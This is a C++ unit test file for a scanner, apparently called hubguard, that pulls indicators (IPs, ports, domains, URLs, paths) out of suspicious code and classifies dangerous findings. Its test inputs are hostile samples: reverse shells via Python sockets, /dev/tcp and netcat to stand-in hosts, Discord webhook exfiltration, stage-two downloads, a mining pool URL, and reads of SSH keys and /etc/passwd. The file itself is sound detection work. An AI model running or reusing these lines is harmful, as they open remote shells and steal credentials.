#include "hubguard/scan/behaviour.hpp"

#include <gtest/gtest.h>

namespace hubguard::scan {
namespace {

bool has(const std::vector<report::Indicator>& v, std::string_view kind, std::string_view value) {
  for (const auto& i : v)
    if (i.kind == kind && i.value == value) return true;
  return false;
}

TEST(Indicators, ReverseShellAddressAndPort) {
  auto v = extract_indicators("s=socket.socket();s.connect(('10.13.37.1',4444));os.dup2(s.fileno(),0)");
  EXPECT_TRUE(has(v, "ip", "10.13.37.1"));
  EXPECT_TRUE(has(v, "port", "4444"));
}

TEST(Indicators, DevTcpNetcatAndIpPort) {
  auto v = extract_indicators("bash -i >& /dev/tcp/192.168.56.7/9001 0>&1; nc -e /bin/sh evil.example.com 1337; x 8.8.8.8:53");
  EXPECT_TRUE(has(v, "ip", "192.168.56.7"));
  EXPECT_TRUE(has(v, "port", "9001"));
  EXPECT_TRUE(has(v, "domain", "evil.example.com"));
  EXPECT_TRUE(has(v, "port", "1337"));
  EXPECT_TRUE(has(v, "ip", "8.8.8.8"));
  EXPECT_TRUE(has(v, "port", "53"));
  EXPECT_TRUE(has(v, "path", "/dev/tcp/192.168.56.7/9001"));
}

TEST(Indicators, UrlsWithHostsPortsAndUserinfo) {
  auto v = extract_indicators(
      "requests.post('https://discord.com/api/webhooks/1/abc', data=d); "
      "urlopen(\"http://user@203.0.113.9:8080/stage2.py\"); x = 'stratum+tcp://pool.minexmr.com:4444'");
  EXPECT_TRUE(has(v, "url", "https://discord.com/api/webhooks/1/abc"));
  EXPECT_TRUE(has(v, "domain", "discord.com"));
  EXPECT_TRUE(has(v, "url", "http://user@203.0.113.9:8080/stage2.py"));
  EXPECT_TRUE(has(v, "ip", "203.0.113.9"));
  EXPECT_TRUE(has(v, "port", "8080"));
  EXPECT_TRUE(has(v, "url", "stratum+tcp://pool.minexmr.com:4444"));
  EXPECT_TRUE(has(v, "domain", "pool.minexmr.com"));
}

TEST(Indicators, PathsEmailsDomainsAndIpv6) {
  auto v = extract_indicators(
      "open(os.path.expanduser('~/.ssh/id_rsa')); open('/etc/passwd'); to='thief@evil-mail.ru'; "
      "host = 'c2.badcorp.net'; addr = 'fe80::1ff:fe23:4567:890a'");
  EXPECT_TRUE(has(v, "path", "~/.ssh/id_rsa"));
  EXPECT_TRUE(has(v, "path", "/etc/passwd"));
  EXPECT_TRUE(has(v, "email", "thief@evil-mail.ru"));
  EXPECT_TRUE(has(v, "domain", "c2.badcorp.net"));
  EXPECT_TRUE(has(v, "ip", "fe80::1ff:fe23:4567:890a"));
}

TEST(Indicators, OrdinaryCodeYieldsNone) {
  auto v = extract_indicators(
      "import os.path\nx = os.path.join(a, b)\nmodel.to(device)\ny = arr[1::2]\nversion = '1.13.0'\n"
      "from setup.py import x\nself.config.hidden_size = 768\n");
  EXPECT_TRUE(v.empty()) << v.front().kind << " " << v.front().value;
}

TEST(Indicators, AreBoundedAndDeduplicated) {
  std::string many;
  for (int i = 0; i < 200; ++i) many += "http://h" + std::to_string(i) + ".example.com/ ";
  EXPECT_EQ(extract_indicators(many, 10).size(), 10u);
  auto v = extract_indicators("1.2.3.4 1.2.3.4 1.2.3.4");
  EXPECT_EQ(v.size(), 1u);
}

TEST(Behaviour, DangerousFindingsWithoutABehaviourClassGetOne) {
  std::vector<report::Finding> f(4);
  f[0].rule = "pickle.dangerous-call";
  f[0].verdict = report::Verdict::dangerous;
  f[0].category = "callable";
  f[0].evidence = "posix.system('curl http://198.51.100.4/x')";
  f[1].rule = "pickle.dangerous-call";
  f[1].verdict = report::Verdict::malicious;
  f[1].category = "unknown";
  f[1].evidence = "builtins.eval('1+1')";
  f[2].rule = "zip.crc-mismatch";
  f[2].verdict = report::Verdict::suspicious;
  f[2].category = "format-anomaly";
  f[3].rule = "x";
  f[3].verdict = report::Verdict::dangerous;
  f[3].category = "reverse-shell";
  classify_behaviour(f);
  EXPECT_EQ(f[0].category, "shell-command");
  EXPECT_TRUE(has(f[0].indicators, "ip", "198.51.100.4"));
  EXPECT_EQ(f[1].category, "code-execution");
  EXPECT_EQ(f[2].category, "format-anomaly");  // not dangerous: left alone
  EXPECT_EQ(f[3].category, "reverse-shell");
  for (const auto& x : f) {
    if (x.verdict >= report::Verdict::dangerous) {
      EXPECT_TRUE(is_behaviour_class(x.category));
    }
  }
}

}  // namespace
}  // namespace hubguard::scan
